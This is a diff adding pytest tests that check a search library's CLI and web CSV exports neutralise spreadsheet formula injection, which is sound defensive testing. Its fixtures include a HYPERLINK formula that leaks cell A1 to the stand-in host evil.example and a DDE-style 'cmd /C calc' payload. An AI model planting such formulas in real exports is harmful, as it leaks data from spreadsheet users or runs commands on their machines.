@@ -254,3 +254,105 @@ def test_files_deleted_or_rewritten_during_a_run(tmp_path):
     ix = tmp_path / "ix"
     build_index([str(tmp_path)], str(ix), jobs=1)
     assert search(SearchRequest("Kandahar"), str(ix)).total == 1
+
+
+# ----------------------------------------------------------------------------- CSV injection
+
+FORMULA_TITLE = 'Kabul airport;=HYPERLINK("http://evil.example/?"&A1,"details")'
+FULLWIDTH_TITLE = "\uff1dcmd|' /C calc'!A0"
+FORMULA_BODY = ("Officials in Kabul said on Friday that the airport would reopen, =1+1 after the attack; @SUM(A1:A9) "
+                "which the Taliban condemned,\t\uff0bHYPERLINK(1) and the talks went on.")
+
+
+@pytest.mark.parametrize("cell,expected", [
+    ('x;=HYPERLINK("http://evil.example/")', 'x;\'=HYPERLINK("http://evil.example/")'),
+    ("x; =1+1", "x; '=1+1"),  # spaces after the separator do not hide it
+    ("a,+1", "a,'+1"),
+    ("a\t-1", "a\t'-1"),
+    ("a\n@SUM(A1)", "a\n'@SUM(A1)"),
+    ("a\r\n=1", "a\r\n'=1"),
+    ("ISIS-K;Taliban", "ISIS-K;Taliban"),  # a formula character inside a value is not a formula start
+    ("2021-08-26", "2021-08-26"),
+])
+def test_csv_formula_after_a_semicolon_is_neutralised(cell, expected):
+    """A spreadsheet in a locale that splits cells on ';' (or ',', tab, a line break) makes a cell of what follows."""
+    from searchlib.rendering import safe_cell
+
+    assert safe_cell(cell) == expected
+
+
+@pytest.mark.parametrize("start", ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"])
+def test_fullwidth_formula_starts_are_neutralised(start):
+    from searchlib.rendering import safe_cell
+
+    assert safe_cell(start + "1+1") == "'" + start + "1+1"
+    assert safe_cell("x;" + start + "1+1") == "x;'" + start + "1+1"
+
+
+@pytest.mark.parametrize("lead", ["\t", "\r", "\n", "\0"])
+def test_leading_tab_and_cr_are_neutralised(lead):
+    from searchlib.rendering import safe_cell
+
+    assert safe_cell(lead + "=1+1").startswith("'" + lead)  # the cell starts with ', so it is text
+    assert safe_cell(lead + "Kabul") == "'" + lead + "Kabul"
+
+
+def test_formula_starts_are_every_character_nfkc_folds_to_one():
+    import unicodedata
+
+    from searchlib.rendering import FORMULA_STARTS
+
+    folded = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", chr(c)) in "=+-@"}
+    assert set(FORMULA_STARTS) == folded
+
+
+def formula_cells(text: str) -> list[str]:
+    """Cells that would run, read with ',' or split again on ';', ',', tab or a line break; the text must
+    also be written with every cell quoted."""
+    import csv
+    import io
+    import re
+
+    from searchlib.rendering import FORMULA_STARTS
+
+    rows = list(csv.reader(io.StringIO(text)))
+    requoted = io.StringIO()
+    csv.writer(requoted, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
+    assert requoted.getvalue() == text, "every cell is quoted"
+    return [piece for row in rows for cell in row for piece in re.split(r"[;,\t\r\n]", cell)
+            if piece.lstrip(" ")[:1] in set(FORMULA_STARTS)]
+
+
+@pytest.fixture(scope="module")
+def formula_index(tmp_path_factory):
+    pages = tmp_path_factory.mktemp("formula-pages")
+    (pages / "semicolon.txt").write_text(f"{FORMULA_TITLE}\n\n{FORMULA_BODY}\n", encoding="utf-8")
+    (pages / "fullwidth.txt").write_text(f"{FULLWIDTH_TITLE}\n\n{GOOD.split(chr(10))[-1]} {FORMULA_BODY}\n",
+                                        encoding="utf-8")
+    ix = tmp_path_factory.mktemp("formula-ix")
+    report = build_index([str(pages)], str(ix), jobs=1)
+    assert report.added == 2, report.failed
+    return str(ix)
+
+
+def test_csv_injection_never_reaches_a_cli_csv(runner, formula_index):
+    outputs = {
+        "search": invoke(runner, "search", "Kabul", "--format", "csv", "--limit", "10", "--index", formula_index),
+        "export": invoke(runner, "export", "--format", "csv", "--with-text", "--index", formula_index),
+        "facets": invoke(runner, "facets", "--format", "csv", "--index", formula_index),
+    }
+    for command, result in outputs.items():
+        assert result.exit_code == 0, (command, result.output)
+        assert formula_cells(result.stdout) == [], command
+    assert "HYPERLINK" in outputs["export"].stdout and "\uff1dcmd" in outputs["export"].stdout
+
+
+def test_csv_injection_never_reaches_the_web_export(formula_index):
+    pytest.importorskip("flask")
+    from searchlib import serving
+
+    app = serving.create_app(formula_index)
+    r = app.test_client().get("/export.csv", query_string={"q": "Kabul"})
+    app.extensions["searchlib"].close()  # the warm searcher's files
+    assert r.status_code == 200 and "HYPERLINK" in r.get_data(as_text=True)
+    assert formula_cells(r.get_data(as_text=True)) == []
